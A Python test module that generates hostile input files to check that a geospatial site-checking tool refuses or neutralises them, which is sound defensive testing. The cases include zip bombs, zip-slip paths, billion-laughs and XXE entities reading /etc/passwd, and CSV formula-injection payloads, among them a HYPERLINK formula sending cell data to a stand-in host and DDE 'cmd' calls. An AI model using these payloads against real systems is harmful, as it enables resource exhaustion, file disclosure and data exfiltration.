"""A corpus of hostile input files for the site check, made on demand (nothing is stored).

Each case is a file (name and bytes), the extra command-line arguments it needs, and what a
sound reader must do with it: refuse the file with one line (exit code 1), or read it and give
the offending rows a problem. Cases come from issue 12 (far cells, duplicate columns, huge
headers, formula text, lying zips, nested JSON, odd CRS members ...) and the classics (XML
bombs, zip slip, zip bombs, odd encodings, NaN/inf, ragged rows). `write_corpus(folder)` writes
them all; `python -m tests.hostile.corpus FOLDER` does so from the command line.
"""

from __future__ import annotations

import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

REFUSED = "refused"  # exit code 1, one line naming the file
ROW_PROBLEM = "row_problem"  # exit code 0, at least one row or feature with a problem
CHECKED = "checked"  # exit code 0: hostile text that must come out inert (see `check`)

# A few real places (longitude, latitude) and their British National Grid metres.
DERBY = (-1.4746, 52.9225)
DERBY_BNG = (435300, 336300)


@dataclass(frozen=True)
class Case:
    """One hostile file: `name` is its file name, `expect` REFUSED, ROW_PROBLEM or CHECKED.

    `make` builds the bytes (some are large, so only when asked). `args` are more `iszones check`
    arguments, in which {input} and {dir} stand for the file and its folder. With `boundary` the
    file is given as --boundaries and a good sites file is the INPUT. `says` is a piece of the
    one-line refusal or of a row's problem; `out` the output's extension.
    """

    key: str
    name: str
    make: Callable[[], bytes]
    expect: str
    says: str = ""
    args: tuple[str, ...] = ()
    boundary: bool = False
    out: str = ".csv"
    check: Callable[[list[dict[str, str]]], None] | None = None  # on the output rows (CHECKED)

    @property
    def data(self) -> bytes:
        return self.make()


# ---------------------------------------------------------------- builders


def good_csv(rows: int = 3) -> bytes:
    lines = ["name,lon,lat"] + [f"Site {i},{DERBY[0]},{DERBY[1]}" for i in range(rows)]
    return ("\n".join(lines) + "\n").encode()


def _col_letter(n: int) -> str:
    letters = ""
    while n:
        n, r = divmod(n - 1, 26)
        letters = chr(65 + r) + letters
    return letters


def _cell_xml(ref: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, tuple) and value[0] == "formula":  # ("formula", text, cached or None)
        cached = "" if value[2] is None else f"<v>{value[2]}</v>"
        return f'<c r="{ref}"><f>{value[1]}</f>{cached}</c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_xml(rows: dict[int, dict[int, object]], *, dimension: str | None = "A1") -> str:
    """A worksheet holding only the given cells ({row: {column: value}}, 1-based)."""
    body = []
    for r in sorted(rows):
        cells = "".join(_cell_xml(f"{_col_letter(c)}{r}", v) for c, v in sorted(rows[r].items()))
        body.append(f'<row r="{r}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{''.join(body)}</sheetData></worksheet>"
    )


def table_rows(table: list[list[object]]) -> dict[int, dict[int, object]]:
    return {r: {c: v for c, v in enumerate(row, 1)} for r, row in enumerate(table, 1)}


SITES_TABLE: list[list[object]] = [
    ["name", "lon", "lat"],
    ["Derby", DERBY[0], DERBY[1]],
    ["Also Derby", DERBY[0], DERBY[1]],
]


def xlsx(
    sheets: list[tuple[str, str, str]],
    *,
    prologue: str = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
) -> bytes:
    """A minimal .xlsx from (title, state, sheet XML) triples; state: visible/hidden/veryHidden.

    Written by hand (not openpyxl) so that it can carry what no well-behaved writer writes:
    lying dimensions, far cells, formulas with no saved value, DTDs.
    """
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel_ns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    entries = "".join(
        f'<sheet name="{title}" sheetId="{i}" r:id="rId{i}"'
        + ("" if state == "visible" else f' state="{state}"')
        + "/>"
        for i, (title, state, _) in enumerate(sheets, 1)
    )
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType'
            '="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            "//schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
            '" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f"{prologue}<workbook {ns} {rel_ns}><sheets>{entries}</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
        ),
    }
    for i, (_, _, xml) in enumerate(sheets, 1):
        files[f"xl/worksheets/sheet{i}.xml"] = xml
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return buffer.getvalue()


def far_cell_xlsx(row: int = 1_048_576, column: int = 16_384) -> bytes:
    """The issue's 4.9 KB workbook: a site table and one cell far away (XFD1048576)."""
    rows = table_rows(SITES_TABLE)
    rows[row] = {column: "x"}
    return xlsx([("Sites", "visible", sheet_xml(rows))])


def duplicate_columns_csv(n: int = 4000) -> bytes:
    """n columns all named x, then lon/lat: the issue's cubic-time header."""
    header = ",".join(["x"] * n + ["lon", "lat"])
    row = ",".join(["1"] * n + [str(DERBY[0]), str(DERBY[1])])
    return f"{header}\n{row}\n".encode()


def huge_header_csv(mb: float = 50) -> bytes:
    """One header line of `mb` megabytes (a million short names), then a row."""
    size = int(mb * 1e6)
    names = (b"c," * (size // 2))[: size - 8]
    return names + b"lon,lat\n" + b"1," * 10 + b"-1.47,52.92\n"


def _zip(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for path, payload in members.items():
            archive.writestr(path, payload)
    return buffer.getvalue()


def lying_size_zip(payload: bytes, member: str) -> bytes:
    """A zip whose member header and directory say it is smaller than it is, and whose CRC lies."""
    data = bytearray(_zip({member: payload}, method=zipfile.ZIP_STORED))
    # local header: signature PK\3\4, CRC at 14, sizes at 18/22; central directory PK\1\2
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    small = max(1, len(payload) // 2)
    struct.pack_into("<III", data, local + 14, 0x12345678, small, small)
    struct.pack_into("<III", data, central + 16, 0x12345678, small, small)
    return bytes(data)


def bad_crc_zip(payload: bytes, member: str) -> bytes:
    data = bytearray(_zip({member: payload}, method=zipfile.ZIP_STORED))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, local + 14, 0xDEADBEEF)
    struct.pack_into("<I", data, central + 16, 0xDEADBEEF)
    return bytes(data)


def zip_bomb(member: str, mb: int = 200) -> bytes:
    """One member of `mb` megabytes of zeros, deflated to about a thousandth of that."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    body = b"".join(compressor.compress(chunk) for _ in range(mb)) + compressor.flush()
    crc = 0
    for _ in range(mb):
        crc = zlib.crc32(chunk, crc)
    name = member.encode()
    size = mb << 20
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), size, len(name), 0
    )
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0,
        crc,
        len(body),
        size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    directory = central + name
    offset = len(local) + len(name) + len(body)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), offset, 0)
    return local + name + body + directory + end


def feature(geometry: object, **props: object) -> dict[str, object]:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def collection(features: list[object], **top: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", **top, "features": features}).encode()


def point(x: float, y: float) -> dict[str, object]:
    return {"type": "Point", "coordinates": [x, y]}


def square(x: float, y: float, size: float) -> dict[str, object]:
    ring = [[x, y], [x + size, y], [x + size, y + size], [x, y + size], [x, y]]
    return {"type": "Polygon", "coordinates": [ring]}


BILLION_LAUGHS_DTD = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def kml(placemarks: str, prologue: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return (
        f'{prologue}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{placemarks}'
        "</Document></kml>"
    ).encode()


PLACEMARK = (
    "<Placemark><name>Derby</name><Point><coordinates>-1.4746,52.9225</coordinates></Point>"
    "</Placemark>"
)


def encrypted_xlsx() -> bytes:
    """The start of an OLE compound file holding an EncryptedPackage stream, as Excel writes a
    password-protected workbook (only the parts a reader looks at: magic and the stream name)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    directory = "EncryptionInfo".encode("utf-16-le") + b"\0" * 50
    directory += "EncryptedPackage".encode("utf-16-le") + b"\0" * 50
    return header + directory + b"\0" * 1024


def nested_json(depth: int = 100_000) -> bytes:
    return b'{"type":"FeatureCollection","features":[' + b"[" * depth + b"]" * depth + b"]}"


def _formulas_inert(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not ((value[:1] and value[:1] in "=+@\t\r") or value.startswith("-2")), value
            assert "\u202e" not in value, value


def _lon_stays_a_number(rows: list[dict[str, str]]) -> None:
    assert {row["lon"] for row in rows} == {str(DERBY[0])}


def _zone_id_inert(rows: list[dict[str, str]]) -> None:
    assert any(row["zone_id"].startswith("'=") for row in rows), rows[0]


FORMULA_NAMES = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Plot \u202egpj.exe",
]


def _formula_csv() -> bytes:
    lines = ["name,lon,lat"] + [
        '"' + n.replace('"', '""') + f'",{DERBY[0]},{DERBY[1]}' for n in FORMULA_NAMES
    ]
    return ("\n".join(lines) + "\n").encode()


def _formula_boundary() -> bytes:
    x, y = DERBY
    return collection(
        [feature(square(x - 0.01, y - 0.01, 0.02), zone_id='=HYPERLINK("x")', name="@x")]
    )


def _xlsx_bomb() -> bytes:
    payload = zip_bomb("xl/worksheets/sheet1.xml", 200)
    return payload


def _lines_and_collections() -> bytes:
    x, y = DERBY
    return collection(
        [
            feature(point(x, y), name="point"),
            feature({"type": "LineString", "coordinates": [[x, y], [x + 0.01, y]]}, name="line"),
            feature({"type": "MultiPoint", "coordinates": [[x, y], [x + 0.01, y]]}, name="mp"),
            feature(
                {"type": "MultiLineString", "coordinates": [[[x, y], [x + 0.01, y + 0.01]]]},
                name="mls",
            ),
            feature(
                {"type": "GeometryCollection", "geometries": [point(x, y), square(x, y, 0.01)]},
                name="gc",
            ),
        ]
    )


def _shapefile_zip() -> dict[str, bytes]:
    """A real one-point shapefile's parts (written by pyogrio), for zips to wrap."""
    import tempfile

    import geopandas as gpd
    from shapely.geometry import Point

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp, "sites.shp")
        gpd.GeoDataFrame({"name": ["Derby"]}, geometry=[Point(*DERBY)], crs="EPSG:4326").to_file(
            path
        )
        return {p.name: p.read_bytes() for p in Path(tmp).iterdir()}


def _lying_shapefile() -> bytes:
    parts = _shapefile_zip()
    data = bytearray(_zip(parts, method=zipfile.ZIP_STORED))
    # the .dbf's directory entry says it is shorter than it is: reading it fails the CRC
    directory = data.find(b"PK\x01\x02")
    while directory >= 0:
        name_length = struct.unpack_from("<H", data, directory + 28)[0]
        member = bytes(data[directory + 46 : directory + 46 + name_length])
        if member.endswith(b".dbf"):
            size = struct.unpack_from("<I", data, directory + 24)[0]
            struct.pack_into("<II", data, directory + 20, size - 10, size - 10)
            offset = struct.unpack_from("<I", data, directory + 42)[0]
            struct.pack_into("<II", data, offset + 18, size - 10, size - 10)
        directory = data.find(b"PK\x01\x02", directory + 4)
    return bytes(data)


def _bad_crc_shapefile() -> bytes:
    parts = _shapefile_zip()
    data = bytearray(_zip(parts, method=zipfile.ZIP_STORED))
    directory = data.find(b"PK\x01\x02")
    while directory >= 0:
        struct.pack_into("<I", data, directory + 16, 0xDEADBEEF)
        offset = struct.unpack_from("<I", data, directory + 42)[0]
        struct.pack_into("<I", data, offset + 14, 0xDEADBEEF)
        directory = data.find(b"PK\x01\x02", directory + 4)
    return bytes(data)


def _bad_crc(data: bytes) -> bytes:
    """A zip with every member's CRC (local header and directory) made wrong."""
    out = bytearray(data)
    directory = out.find(b"PK\x01\x02")
    while directory >= 0:
        struct.pack_into("<I", out, directory + 16, 0xDEADBEEF)
        offset = struct.unpack_from("<I", out, directory + 42)[0]
        struct.pack_into("<I", out, offset + 14, 0xDEADBEEF)
        directory = out.find(b"PK\x01\x02", directory + 4)
    return bytes(out)


def _zip_slip() -> bytes:
    parts = _shapefile_zip()
    return _zip({f"../../evil/{k}": v for k, v in parts.items()})


def _ragged_csv() -> bytes:
    return (
        f"name,lon,lat\nA,{DERBY[0]},{DERBY[1]}\nB,1,2,3,4\nC\nD,{DERBY[0]},{DERBY[1]},extra\n"
    ).encode()


def _nan_inf_csv() -> bytes:
    return (
        f"name,lon,lat\nok,{DERBY[0]},{DERBY[1]}\nnan,nan,nan\ninf,inf,-inf\n"
        f"big,1e308,1e308\nhuge,1e999,52\n"
    ).encode()


def _hidden_first_sheet() -> bytes:
    secret = table_rows([["name", "lon", "lat"], ["Hidden", 0.5, 51.0]])
    return xlsx(
        [
            ("Secret", "hidden", sheet_xml(secret)),
            ("Sites", "visible", sheet_xml(table_rows(SITES_TABLE))),
        ]
    )


def _formula_without_value() -> bytes:
    rows = table_rows(SITES_TABLE)
    rows[2][2] = ("formula", "B3*1", None)  # lon of row 1: a formula never calculated
    rows[3][4] = ("formula", "1+1", None)  # a note column
    rows[1][4] = "note"
    return xlsx([("Sites", "visible", sheet_xml(rows))])


def _lying_dimension() -> bytes:
    return xlsx(
        [("Sites", "visible", sheet_xml(table_rows(SITES_TABLE), dimension="A1:XFD1048576"))]
    )


def _sheet_dtd() -> bytes:
    xml = sheet_xml(table_rows(SITES_TABLE)).replace(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', BILLION_LAUGHS_DTD
    )
    xml = xml.replace("<t>Derby</t>", "<t>&lol9;</t>")
    return xlsx([("Sites", "visible", xml)])


def _properties_not_objects() -> bytes:
    x, y = DERBY
    return collection(
        [
            feature(point(x, y), name="good"),
            {"type": "Feature", "properties": "str", "geometry": point(x, y)},
            {"type": "Feature", "properties": [1, 2], "geometry": point(x, y)},
        ]
    )


def _many_blank_lines() -> bytes:
    return b",,\n" * 600_000 + b"name,lon,lat\n"


def _long_data_line() -> bytes:
    return b"name,lon,lat\n" + b"a," * 1_000_000 + b"\n"


def _read_as_windows_1252(rows: list[dict[str, str]]) -> None:
    assert rows[0]["name"] == "Caf\u00e9 \u2019s", rows[0]["name"]


def cases() -> Iterator[Case]:
    """Every case, in the issue's order, then the classics."""
    x, y = DERBY
    # 2. High: tiny files that take the whole machine
    yield Case("far_cell", "far.xlsx", far_cell_xlsx, REFUSED, "beyond the limits")
    yield Case(
        "far_cell_row_1000", "far1000.xlsx", lambda: far_cell_xlsx(row=1000), REFUSED, "XFD1000"
    )
    yield Case("lying_dimension", "dim.xlsx", _lying_dimension, CHECKED)
    yield Case("duplicate_columns", "dup.csv", duplicate_columns_csv, REFUSED, "4,002 columns")
    yield Case(
        "duplicate_columns_under_cap",
        "dup900.csv",
        lambda: duplicate_columns_csv(900),
        CHECKED,
        out=".xlsx",
    )
    yield Case("header_50_mb", "header.csv", huge_header_csv, REFUSED, "may be at most 1 MB")
    yield Case("long_data_line", "line.csv", _long_data_line, REFUSED, "MB long")
    yield Case("blank_preamble", "blank.csv", _many_blank_lines, REFUSED, "no header")
    # 3. Medium
    yield Case("formula_cells_csv", "formula.csv", _formula_csv, CHECKED, check=_formulas_inert)
    yield Case(
        "formula_cells_xlsx_out",
        "formula.csv",
        _formula_csv,
        CHECKED,
        out=".xlsx",
        check=_formulas_inert,
    )
    yield Case(
        "formula_zone_ids",
        "zones.geojson",
        _formula_boundary,
        CHECKED,
        boundary=True,
        check=_zone_id_inert,
    )
    yield Case("lines_and_collections", "shapes.geojson", _lines_and_collections, CHECKED)
    yield Case("nested_json", "nested.geojson", nested_json, REFUSED, "nested")
    yield Case(
        "nested_json_boundary", "nested.geojson", nested_json, REFUSED, "nested", boundary=True
    )
    yield Case(
        "crs_string",
        "crs.geojson",
        lambda: collection([feature(point(x, y))], crs="EPSG:27700"),
        REFUSED,
        "'crs'",
    )
    yield Case(
        "crs_list",
        "crs.geojson",
        lambda: collection([feature(point(x, y))], crs=["EPSG:27700"]),
        REFUSED,
        "'crs'",
    )
    yield Case(
        "crs_name_not_text",
        "crs.geojson",
        lambda: collection([feature(point(x, y))], crs={"properties": {"name": 27700}}),
        REFUSED,
        "'crs'",
    )
    yield Case("lying_zip_member", "lying.zip", _lying_shapefile, REFUSED, "damaged")
    yield Case(
        "bad_crc_xlsx",
        "crc.xlsx",
        lambda: _bad_crc(xlsx([("Sites", "visible", sheet_xml(table_rows(SITES_TABLE)))])),
        REFUSED,
        "damaged zip member",
    )
    yield Case(
        "bad_crc_kmz",
        "crc.kmz",
        lambda: _bad_crc(_zip({"doc.kml": kml(PLACEMARK)})),
        REFUSED,
        "damaged",
    )
    yield Case("bad_crc_zip", "crc.zip", _bad_crc_shapefile, REFUSED, "damaged")
    yield Case(
        "bng_declared_lonlat_held",
        "bng.geojson",
        lambda: collection(
            [feature(point(x, y))],
            crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::27700"}},
        ),
        REFUSED,
        "look like longitude/latitude",
    )
    yield Case(
        "out_is_input",
        "same.csv",
        good_csv,
        REFUSED,
        "is the input",
        args=("--out", "{input}"),
    )
    # 4. Low
    for value in ("nan", "inf", "0", "-1"):
        yield Case(
            f"max_mb_{value}", "good.csv", good_csv, REFUSED, "--max-mb", args=("--max-mb", value)
        )
    yield Case("encrypted_xlsx", "locked.xlsx", encrypted_xlsx, REFUSED, "is encrypted")
    yield Case("hidden_first_sheet", "hidden.xlsx", _hidden_first_sheet, CHECKED)
    yield Case(
        "formula_without_value",
        "formula.xlsx",
        _formula_without_value,
        ROW_PROBLEM,
        "formula with no saved value",
    )
    yield Case(
        "properties_not_objects",
        "props.geojson",
        _properties_not_objects,
        ROW_PROBLEM,
        "properties",
    )
    yield Case("nan_inf_1e308", "nan.csv", _nan_inf_csv, ROW_PROBLEM, "not a number")
    yield Case(
        "hundred_thousand_digits",
        "digits.csv",
        lambda: f"name,lon,lat\nA,{'1' * 100_000},52\nB,{x},{y}\n".encode(),
        ROW_PROBLEM,
        "111...' is not a number",
    )
    yield Case(
        "wild_degrees",
        "wild.geojson",
        lambda: collection([feature(point(1e308, -1e308)), feature(point(x, y))]),
        ROW_PROBLEM,
        "outside the UK",
    )
    yield Case("bidi_names", "bidi.csv", _formula_csv, CHECKED, out=".xlsx", check=_formulas_inert)
    # classics
    yield Case(
        "billion_laughs_kml",
        "laughs.kml",
        lambda: kml(PLACEMARK.replace("Derby", "&lol9;"), BILLION_LAUGHS_DTD),
        REFUSED,
        "refusing it for safety",
    )
    yield Case(
        "xxe_kml",
        "xxe.kml",
        lambda: kml(
            PLACEMARK.replace("Derby", "&xxe;"),
            '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        ),
        REFUSED,
        "refusing it for safety",
    )
    yield Case(
        "billion_laughs_xlsx_workbook",
        "laughs.xlsx",
        lambda: xlsx(
            [("Sites", "visible", sheet_xml(table_rows(SITES_TABLE)))], prologue=BILLION_LAUGHS_DTD
        ),
        REFUSED,
        "refusing it for safety",
    )
    yield Case(
        "billion_laughs_xlsx_sheet", "laughs2.xlsx", _sheet_dtd, REFUSED, "refusing it for safety"
    )
    yield Case("zip_slip", "slip.zip", _zip_slip, REFUSED, "outside the zip")
    yield Case(
        "zip_bomb_shapefile", "bomb.zip", lambda: zip_bomb("sites.shp"), REFUSED, "unpacks to"
    )
    yield Case("zip_bomb_kmz", "bomb.kmz", lambda: zip_bomb("doc.kml"), REFUSED, "unpacks to")
    yield Case("zip_bomb_xlsx", "bomb.xlsx", _xlsx_bomb, REFUSED, "unpacks to")
    yield Case(
        "utf16_csv",
        "utf16.csv",
        lambda: good_csv().decode().encode("utf-16"),
        REFUSED,
        "not UTF-8",
    )
    yield Case(
        "windows_1252_csv",
        "cp1252.csv",
        lambda: f"name,lon,lat\nCaf\u00e9 \u2019s,{x},{y}\n".encode("cp1252"),
        CHECKED,
        check=_read_as_windows_1252,
    )
    yield Case(
        "neither_utf8_nor_1252_csv",
        "latin1.csv",
        lambda: f"name,lon,lat\nCaf\u00e9\x81,{x},{y}\n".encode("latin-1"),
        REFUSED,
        "not Windows-1252 text (byte 0x81)",
    )
    yield Case("ragged_rows", "ragged.csv", _ragged_csv, ROW_PROBLEM, "fields where the header has")
    yield Case("not_a_zip_xlsx", "junk.xlsx", lambda: b"PK\x03\x04junk" * 10, REFUSED, "")
    yield Case(
        "broken_gpkg", "broken.gpkg", lambda: b"SQLite format 3\x00" + b"\x00" * 200, REFUSED, ""
    )
    yield Case(
        "broken_kml",
        "broken.kml",
        lambda: kml("<Placemark><name>x</name></Placemark>"),
        REFUSED,
        "",
    )


def write_corpus(folder: Path) -> list[Path]:
    """Write every case's file into `folder` (each in a sub-folder named by its key)."""
    written = []
    for case in cases():
        place = folder / case.key
        place.mkdir(parents=True, exist_ok=True)
        path = place / case.name
        path.write_bytes(case.data)
        written.append(path)
    return written


if __name__ == "__main__":
    for path in write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus")):
        print(path)
